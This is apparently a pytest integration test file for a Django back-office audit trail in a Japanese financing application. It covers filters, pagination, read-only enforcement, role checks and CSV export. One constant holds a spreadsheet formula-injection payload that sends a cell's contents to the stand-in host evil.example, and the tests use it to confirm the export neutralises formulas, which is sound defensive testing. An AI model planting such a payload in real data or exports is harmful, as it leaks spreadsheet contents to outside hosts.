"""The audit trail in the back office (issue 10 item 4): filterable by action, actor, object
and date range, paginated, one record's payload readable, exported as CSV with formula cells
neutralised — and read-only (no way to change a record; reading adds none)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone

from tests.integration.backoffice.helpers import client_for, staff_user
from urikake.audit import services as audit
from urikake.audit.models import AuditRecord

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"株式会社デモ運送")'


@pytest.fixture
def trail() -> None:
    audit.record(
        "application.submitted",
        actor="system:test",
        object_type="receivables.financingapplication",
        object_id=1,
        payload={"amount": 1_100_000},
    )
    audit.record(
        "application.offered",
        actor="system:screening",
        object_type="receivables.financingapplication",
        object_id=1,
    )
    audit.record(
        "organization.created",
        actor="system:test",
        object_type="applicants.organization",
        object_id=EVIL,
        payload={"name": EVIL},
    )
    for n in range(60):
        audit.record("kyc.checked", actor="system:kyc", object_type="kyc.kyccheck", object_id=n)


def _seqs(client: Any, **params: Any) -> list[str]:
    response = client.get("/backoffice/audit/", params)
    assert response.status_code == 200
    return [r.action for r, _label in response.context["rows"]]


def test_filters_by_action_actor_and_object(trail: None) -> None:
    client = client_for(staff_user("compliance"))
    assert _seqs(client, action="application.") == ["application.offered", "application.submitted"]
    assert _seqs(client, actor="system:screening") == ["application.offered"]
    assert _seqs(client, object_type="applicants.organization", object_id=EVIL) == [
        "organization.created"
    ]
    page = client.get(
        "/backoffice/audit/", {"object_type": "applicants.organization"}
    ).content.decode()
    assert "申込者" in page  # the object type's Japanese name


def test_filters_by_date_range_in_japan_time(trail: None) -> None:
    client = client_for(staff_user("admin"))
    today = timezone.localdate()
    assert len(_seqs(client, date_from=today.isoformat(), date_to=today.isoformat())) == 50
    assert _seqs(client, date_to=(today - timedelta(days=1)).isoformat()) == []
    bad = client.get(
        "/backoffice/audit/", {"date_from": today, "date_to": today - timedelta(days=1)}
    )
    assert "開始日は終了日以前" in bad.content.decode()
    assert bad.context["page"].paginator.count == 0


def test_paginated_and_detail_shows_the_payload(trail: None) -> None:
    client = client_for(staff_user("compliance"))
    first = client.get("/backoffice/audit/")
    assert first.context["page"].paginator.count == 63
    assert len(first.context["page"]) == 50
    assert len(client.get("/backoffice/audit/", {"page": 2}).context["page"]) == 13
    record = AuditRecord.objects.get(action="application.submitted")
    html = client.get(f"/backoffice/audit/{record.seq}/").content.decode()
    assert "&quot;amount&quot;: 1100000" in html
    assert record.hash in html
    assert client.get("/backoffice/audit/999999/").status_code == 404


def test_the_trail_is_read_only(trail: None) -> None:
    client = client_for(staff_user("compliance"))
    record = AuditRecord.objects.get(action="application.submitted")
    before = AuditRecord.objects.count()
    assert client.post(f"/backoffice/audit/{record.seq}/", {"action": "x"}).status_code == 405
    assert client.post("/backoffice/audit/", {}).status_code == 405
    assert AuditRecord.objects.count() == before
    assert AuditRecord.objects.get(pk=record.pk).action == "application.submitted"


def test_csv_export_filters_and_neutralises_formulas(trail: None) -> None:
    client = client_for(staff_user("admin"))
    response = client.get("/backoffice/audit/export.csv", {"action": "organization."})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:4] == ["連番", "日時（日本時間）", "実行者", "操作"]
    assert len(rows) == 2
    assert rows[1][3] == "organization.created"
    assert "HYPERLINK" in rows[1][6]
    assert rows[1][5] == "'" + EVIL  # an object id typed as a formula reaches Excel as text
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_csv_cell_guard() -> None:
    from urikake.domain.safe_csv import safe_cell as csv_cell

    assert csv_cell(EVIL) == "'" + EVIL
    assert csv_cell("-x") == "'-x"
    assert csv_cell("株式会社") == "株式会社"
    assert csv_cell(None) is None


def test_roles_without_view_audit_are_refused(trail: None) -> None:
    for role in ("reviewer", "treasury", "structuring"):
        client = client_for(staff_user(role))
        assert client.get("/backoffice/audit/").status_code == 403, role
        assert client.get("/backoffice/audit/export.csv").status_code == 403, role
